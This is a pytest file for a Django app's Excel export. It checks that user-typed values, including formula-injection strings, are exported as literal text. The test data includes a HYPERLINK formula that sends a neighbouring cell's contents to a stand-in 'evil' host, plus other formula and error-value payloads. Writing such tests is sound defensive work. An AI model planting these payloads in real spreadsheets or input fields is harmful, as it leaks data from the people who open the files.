"""Excel exports: what a user typed comes back as the same text, never as a live formula."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.test import Client
from openpyxl import load_workbook

from fazhi.core.excel import workbook_bytes
from fazhi.org.models import User
from fazhi.org.services import record_update
from fazhi.testing import PASSWORD

FORMULA = '=HYPERLINK("http://e/","x")'


def test_a_grid_worker_named_like_a_formula_is_exported_as_text(world):
    record_update(world.a.worker, actor=world.clerk_a, name=FORMULA)
    response = world.client(world.clerk_a).get("/office/org/gridworker/?format=xlsx")
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows())
    [header_at] = [i for i, row in enumerate(rows) if row[0].value == "姓名"]
    [cell] = [row[0] for row in rows[header_at + 1 :] if row[0].value == FORMULA]
    assert cell.data_type == "s"


def test_a_user_name_typed_at_the_login_form_reaches_the_audit_export_as_text(world):
    typed = '=HYPERLINK("http://evil/?"&B5,"x")'
    Client().post("/accounts/login/", {"username": typed, "password": "Wrong@2020pass"})
    Client().post("/accounts/login/", {"username": "a\x01b", "password": "Wrong@2020pass"})
    root = User.objects.create_superuser("root", password=PASSWORD, must_change_password=False)
    response = world.client(root).get("/office/audit/?action=login_failed&format=xlsx")
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows())
    header = [c.value for c in rows[0]]
    names = {row[header.index("操作人")].value: row[header.index("操作人")] for row in rows[1:]}
    assert names[typed].data_type == "s"
    # A control character cannot be stored in .xlsx at all: it is shown as U+FFFD.
    assert "a\ufffdb" in names


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "=1+1",
        "#N/A",  # openpyxl would write this as an error value, not as the text
        "#REF!",
        "+86 13800000001",
        "-10",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",  # a lone CR may come back as LF (parser-dependent): still text, not a formula
        "=",
    ],
)
def test_text_that_excel_could_evaluate_stays_literal_text(text):
    content = workbook_bytes(title="表", headers=["备注"], rows=[[text]], notes=[text])
    book = load_workbook(BytesIO(content))
    for cell in (book.active["A2"], book["说明"]["A2"]):
        assert cell.data_type == "s"
        assert cell.value in {text, text.replace("\r", "\n")}
